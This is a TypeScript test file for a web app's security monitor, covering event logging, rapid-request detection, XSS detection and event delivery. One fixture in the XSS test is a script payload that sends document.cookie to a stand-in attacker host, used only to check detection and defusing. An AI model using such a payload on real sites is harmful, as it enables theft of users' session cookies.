import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  createSecurityMonitor,
  RAPID_REQUEST_LIMIT,
  RAPID_REQUEST_WINDOW_MS,
  SECURITY_LOG_CAP,
  type SecurityEvent,
} from './monitor';

const flush = () => new Promise((resolve) => setTimeout(resolve, 0));

describe('log', () => {
  it('records events in the spec shape', () => {
    const monitor = createSecurityMonitor({ now: () => Date.parse('2030-01-01T00:00:00Z') });

    const event = monitor.log('network_error', 'low', { path: '/api/users/' });

    expect(event).toEqual({
      id: expect.any(String),
      timestamp: '2030-01-01T00:00:00.000Z',
      type: 'network_error',
      details: { path: '/api/users/' },
      severity: 'low',
      userAgent: expect.any(String),
      url: expect.any(String),
    });
    expect(monitor.events()).toEqual([event]);
  });

  it('gives every event its own id', () => {
    const monitor = createSecurityMonitor();
    const ids = new Set(Array.from({ length: 20 }, () => monitor.log('javascript_error', 'low').id));
    expect(ids.size).toBe(20);
  });

  it(`keeps the newest ${SECURITY_LOG_CAP} events`, () => {
    const monitor = createSecurityMonitor();
    for (let i = 0; i < SECURITY_LOG_CAP + 5; i++) monitor.log('javascript_error', 'low', { i });

    const events = monitor.events();
    expect(events).toHaveLength(SECURITY_LOG_CAP);
    expect(events[0]?.details).toEqual({ i: 5 });
    expect(events.at(-1)?.details).toEqual({ i: SECURITY_LOG_CAP + 4 });
  });

  it('hands out a copy of the log', () => {
    const monitor = createSecurityMonitor();
    monitor.log('javascript_error', 'low');
    (monitor.events() as SecurityEvent[]).length = 0;
    expect(monitor.events()).toHaveLength(1);
  });
});

describe('sending', () => {
  it('sends critical events only', () => {
    const send = vi.fn();
    const monitor = createSecurityMonitor({ send });

    monitor.log('xss_attempt', 'high');
    monitor.log('javascript_error', 'medium');
    const critical = monitor.log('token_refresh_failed', 'critical', { reason: 'refresh_failed' });

    expect(send).toHaveBeenCalledTimes(1);
    expect(send).toHaveBeenCalledWith(critical, {});
  });

  it.each([
    [
      'throws',
      () => {
        throw new Error('boom');
      },
    ],
    ['rejects', () => Promise.reject(new TypeError('Failed to fetch'))],
    ['answers 404', () => Promise.resolve(new Response('Not found', { status: 404 }))],
  ])('ignores a send that %s', async (_, send) => {
    const unhandled = vi.fn();
    process.on('unhandledRejection', unhandled);
    try {
      const monitor = createSecurityMonitor({ send });
      expect(() => monitor.log('xss_attempt', 'critical')).not.toThrow();
      await flush();
      expect(unhandled).not.toHaveBeenCalled();
      // The failure itself is not logged as another event.
      expect(monitor.events().map((e) => e.type)).toEqual(['xss_attempt']);
    } finally {
      process.off('unhandledRejection', unhandled);
    }
  });
});

describe('recordRequest', () => {
  beforeEach(() => {
    vi.useFakeTimers();
    vi.setSystemTime(Date.parse('2030-01-01T00:00:00Z'));
  });
  afterEach(() => {
    vi.useRealTimers();
  });

  const rapid = (monitor: ReturnType<typeof createSecurityMonitor>) =>
    monitor.events().filter((e) => e.type === 'rapid_requests');

  it(`allows ${RAPID_REQUEST_LIMIT} requests within the window`, () => {
    const monitor = createSecurityMonitor();
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) {
      monitor.recordRequest();
      vi.advanceTimersByTime(100);
    }
    expect(rapid(monitor)).toHaveLength(0);
  });

  it('raises one high rapid_requests event for a burst, not one per request', () => {
    const monitor = createSecurityMonitor();
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(0);

    monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(1);
    expect(rapid(monitor)[0]?.severity).toBe('high');

    for (let i = 0; i < 200; i++) monitor.recordRequest();
    vi.advanceTimersByTime(RAPID_REQUEST_WINDOW_MS - 1);
    monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(1);
  });

  it('does not count requests older than the window', () => {
    const monitor = createSecurityMonitor();
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) monitor.recordRequest();
    vi.advanceTimersByTime(RAPID_REQUEST_WINDOW_MS);
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(0);
  });

  it('re-arms after the window', () => {
    const monitor = createSecurityMonitor();
    for (let i = 0; i <= RAPID_REQUEST_LIMIT; i++) monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(1);

    vi.advanceTimersByTime(RAPID_REQUEST_WINDOW_MS);
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(1);
    monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(2);
  });

  it('uses the injected clock', () => {
    let now = 0;
    const monitor = createSecurityMonitor({ now: () => now });
    for (let i = 0; i < RAPID_REQUEST_LIMIT; i++) {
      monitor.recordRequest();
      now += RAPID_REQUEST_WINDOW_MS / RAPID_REQUEST_LIMIT;
    }
    monitor.recordRequest();
    // The first request is exactly one window old by now, so only 50 remain in it.
    expect(rapid(monitor)).toHaveLength(0);
    monitor.recordRequest();
    expect(rapid(monitor)).toHaveLength(1);
  });
});

describe('checkXss', () => {
  it('logs a critical xss_attempt with the field and a short, defused sample, and sends it', () => {
    const send = vi.fn();
    const monitor = createSecurityMonitor({ send });
    const input = `<script>fetch('//evil.example/?c='+document.cookie)</script>${'x'.repeat(500)}`;

    expect(monitor.checkXss(input, { field: 'first_name' })).toBe(true);

    const [event] = monitor.events();
    expect(event?.type).toBe('xss_attempt');
    expect(event?.severity).toBe('critical');
    expect(event?.details).toMatchObject({ field: 'first_name', length: input.length });
    const sample = String(event?.details.sample);
    expect(sample.startsWith("‹script›fetch('//evil.example/")).toBe(true);
    expect(sample).not.toMatch(/[<>]/);
    expect(sample.length).toBeLessThanOrEqual(81);
    expect(send).toHaveBeenCalledWith(event, {});
  });

  it('returns false and logs nothing for ordinary input', () => {
    const monitor = createSecurityMonitor();
    expect(monitor.checkXss("O'Brien <obrien@example.com>")).toBe(false);
    expect(monitor.events()).toHaveLength(0);
  });
});

describe('delivery', () => {
  it('passes the token to report with to send, and keeps what the server recorded to itself', () => {
    const send = vi.fn();
    const monitor = createSecurityMonitor({ send });

    const tampered = monitor.log(
      'sensitive_storage_access',
      'critical',
      { reason: 'session_tampered' },
      { accessToken: 'a.b.c' },
    );
    monitor.log(
      'token_refresh_failed',
      'critical',
      { reason: 'refresh_token_reused' },
      { recordedByServer: true },
    );

    expect(send.mock.calls).toEqual([[tampered, { accessToken: 'a.b.c' }]]);
    expect(monitor.events()).toHaveLength(2);
  });
});
